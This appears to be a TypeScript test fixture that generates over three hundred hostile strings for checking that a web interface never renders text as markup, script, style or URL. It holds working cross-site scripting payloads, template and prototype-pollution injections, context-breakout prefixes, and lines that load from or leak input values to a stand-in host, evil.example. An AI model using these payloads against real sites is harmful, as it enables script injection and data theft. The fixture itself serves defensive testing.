/** Where a hostile text would report that it ran; the page looks for both afterwards. */
export const EXECUTED = 'aigaqExecuted';
/** Path on our own host, and name of a foreign one, that nothing of ours ever asks for. */
export const LURE = 'lure-of-a-hostile-text';

const run = (n: number) => `(window.${EXECUTED}=window.${EXECUTED}||[]).push(${n})`;
const foreign = (n: number) => `http://evil.example/${LURE}-${n}`;
const own = (n: number) => `/${LURE}-${n}`;

/** One trick each: `n` tells which text it was that ran or loaded something. */
const MARKUP: readonly ((n: number) => string)[] = [
  (n) => `<script>${run(n)}</script>`,
  (n) => `<img src=x onerror="${run(n)}">`,
  (n) => `<img src=${foreign(n)}>`,
  (n) => `<svg onload="${run(n)}">`,
  (n) => `<svg><script>${run(n)}</script></svg>`,
  (n) => `<svg><animate onbegin="${run(n)}" attributeName=x dur=1s>`,
  (n) => `<svg><use href="${foreign(n)}#x"></use></svg>`,
  (n) => `<math><maction actiontype="statusline" xlink:href="javascript:${run(n)}">x</maction></math>`,
  (n) => `<iframe srcdoc="<script>parent.${run(n)}</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.${run(n)}"></iframe>`,
  (n) => `<object data="${own(n)}"></object>`,
  (n) => `<embed src="${foreign(n)}">`,
  (n) => `<video src="${own(n)}" onerror="${run(n)}"></video>`,
  (n) => `<audio src=x onerror="${run(n)}">`,
  (n) => `<details open ontoggle="${run(n)}">x</details>`,
  (n) => `<input autofocus onfocus="${run(n)}">`,
  (n) => `<body onload="${run(n)}">`,
  (n) => `<marquee onstart="${run(n)}">x</marquee>`,
  (n) => `<a href="javascript:${run(n)}">x</a>`,
  (n) => `<form action="javascript:${run(n)}"><button autofocus>x</button></form>`,
  (n) => `<base href="http://evil.example/${LURE}-${n}/">`,
  (n) => `<meta http-equiv="refresh" content="0;url=${foreign(n)}">`,
  (n) => `<meta http-equiv="refresh" content="0;url=javascript:${run(n)}">`,
  (n) => `<link rel="stylesheet" href="${foreign(n)}">`,
  (n) => `<link rel="prefetch" href="${own(n)}">`,
  (n) => `<style>@import "${foreign(n)}";</style>`,
  (n) => `<style>*{background:url(${own(n)})}</style>`,
  (n) => `<style>input[value^="a"]{background:url(${foreign(n)}-a)}</style>`,
  (n) => `<p style="background:url(${own(n)})">x</p>`,
  (n) => `<template shadowrootmode="open"><img src=x onerror="${run(n)}"></template>`,
];

/** What does harm only where a text becomes an address, a style, a script or a template. */
const PLAIN: readonly ((n: number) => string)[] = [
  (n) => `javascript:${run(n)}`,
  (n) => `JaVaScRiPt:${run(n)}`,
  (n) => `java\tscript:${run(n)}`,
  (n) => `data:text/html,<script>${run(n)}</script>`,
  (n) => `vbscript:${run(n)}`,
  (n) => `url(${own(n)})`,
  (n) => `red;background:url(${foreign(n)})`,
  (n) => `}*{background-image:url(${own(n)})}`,
  (n) => `@import '${foreign(n)}';`,
  (n) => `{{constructor.constructor('${run(n)}')()}}`,
  (n) => `\${${run(n)}}`,
  (n) => `#{${run(n)}}`,
  (n) => `<%= ${run(n)} %>`,
  (n) => `$t(x, {"v":"<img src=x onerror=${run(n)}>"})`,
  (n) => `";${run(n)};//`,
  (n) => `';${run(n)};//`,
  (n) => `__proto__[${EXECUTED}]=${n}`,
  (n) => `\\u003cimg src=x onerror=${run(n)}\\u003e`,
  (n) => `&lt;img src=x onerror=${run(n)}&gt;`,
  (n) => `&#60;script&#62;${run(n)}&#60;/script&#62;`,
  (n) => `＜script＞${run(n)}＜/script＞`,
  (n) => `%3Cscript%3E${run(n)}%3C/script%3E`,
];

/** Ways out of where the text may stand: an attribute, a comment, a tag's text, a style, a block of script. */
const BEFORE = ['', '">', "'>", '-->', '</title></textarea></style></script>', ']]>', '`}'] as const;

/** At least three hundred texts that would run or load something if any screen took text for anything else. */
export const HOSTILE_STRINGS: readonly string[] = [
  ...BEFORE.flatMap((before) => MARKUP.map((make) => (n: number) => `${before}${make(n)}`)),
  ...BEFORE.slice(0, 5).flatMap((before) => PLAIN.map((make) => (n: number) => `${before}${make(n)}`)),
].map((make, n) => make(n));

/** The same as the name of a file: a slash cannot be in one, and Linux allows 255 bytes. */
export const hostileName = (text: string, n: number, extension: string): string =>
  `${text.replaceAll('/', '∕').slice(0, 70)}${n}.${extension}`;
